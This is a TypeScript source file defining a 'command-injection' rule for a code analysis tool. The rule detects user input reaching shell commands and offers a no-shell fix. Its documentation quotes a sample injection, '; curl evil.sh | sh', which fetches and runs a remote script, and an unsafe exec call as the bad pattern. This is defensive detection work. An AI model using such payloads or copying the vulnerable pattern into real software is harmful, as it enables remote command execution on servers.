import { plainCommandOf, withoutShellEdits } from '../../edits/without-shell.ts';
import { flowOf, type InjectionData, injections } from '../../engine/injection.ts';
import { defineRule } from '../../engine/rule.ts';

type Data = InjectionData & {
  /** What the command line runs; empty where a shell does more for it than to split it into words. */
  readonly program: string;
};

export const commandInjection = defineRule<Data>({
  meta: {
    id: 'command-injection',
    family: 'validation',
    severity: 'error',
    needs: 'flow',
    docs: {
      why: 'A value that becomes part of a command line brings commands of its own along: `; curl evil.sh | sh`. Whoever sends it owns the machine.',
      bad: 'exec(`convert ${req.query.file} out.png`);',
      good: "execFile('convert', [file, 'out.png']);",
      silent: [
        'arguments in a list that no shell reads',
        'numbers, and what was compared with a list or a strict pattern',
      ],
    },
  },
  check: (ctx) =>
    injections(['command'], ctx, {
      severity: 'error',
      isHarmless: ({ facts }) => facts.runtime === 'browser',
      said: (flow) => ({ program: plainCommandOf(flow)?.program ?? '' }),
    }),
  message: ({ source, called, isElsewhere }) =>
    `\`${source}\` becomes part of the command that \`${called}\` runs${isElsewhere ? ' further on' : ''}: whoever sends it can run any command on the server.`,
  fixes: [
    {
      id: 'without-shell',
      safety: 'unsafe',
      title: ({ program }) => `Run \`${program}\` without a shell, with what it is given in a list`,
      appliesTo: ({ program }) => program !== '',
      edits: (node, _data, { semantics }) => {
        const flow = flowOf(node, ['command'], semantics);
        const command = flow && plainCommandOf(flow);
        return command && withoutShellEdits(command);
      },
    },
  ],
});
